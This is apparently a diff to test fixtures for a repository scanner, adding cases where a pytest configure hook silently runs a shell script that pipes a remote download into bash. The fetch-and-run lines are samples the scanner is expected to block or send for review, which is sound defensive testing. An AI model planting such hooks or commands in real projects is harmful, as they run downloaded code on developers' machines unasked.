@@ -23,6 +23,15 @@ def _asked(script: str) -> dict[str, str | bytes]:
     return {"README.md": "Run `make up`.\n", "Makefile": "all:\n\t@true\n\nup:\n\tsh a.sh dev\n", "a.sh": script}
 
 
+def _tested(line: str) -> dict[str, str | bytes]:
+    """Tests that are prepared by a script of shell."""
+    return {
+        "tests/conftest.py": "import subprocess\nfrom pathlib import Path\n\n\ndef pytest_configure(config):\n"
+        "    subprocess.run(['bash', str(Path(__file__).parent / 'data' / 'a.sh')])\n",
+        "tests/data/a.sh": f"set -e\n{line}\n",
+    }
+
+
 _MACHINE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00This program cannot be run in DOS mode.\r\nPE\x00\x00"
 
 
@@ -68,6 +77,12 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "an installer by its address, which is run": Sample(
             _asked(_SETTINGS.format("sh") + 'eval "$settings"\n'), "review", ("a.sh", 2)
         ),
+        "by a script that tests start": Sample(
+            _tested("curl -sf https://a.invalid/seed | bash"), "block", ("tests/data/a.sh", 2)
+        ),
+        "by such a script, from where its makers publish it": Sample(
+            _tested("curl -sf https://install.python-poetry.org | bash"), "review", ("tests/data/a.sh", 2)
+        ),
     },
     "shipped_object": {
         "a template that is loaded from a folder that is given": Sample(
@@ -78,6 +93,7 @@ HOSTILE: dict[str, dict[str, Sample]] = {
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     "fetch_and_run": {
+        "a script that tests start saves what it fetches": _tested("curl -sf https://a.invalid/seed -o seed.sql"),
         "settings by their address, which are read": _asked(
             _SETTINGS.format("env") + 'echo "$settings" | grep PEERS\n'
         ),
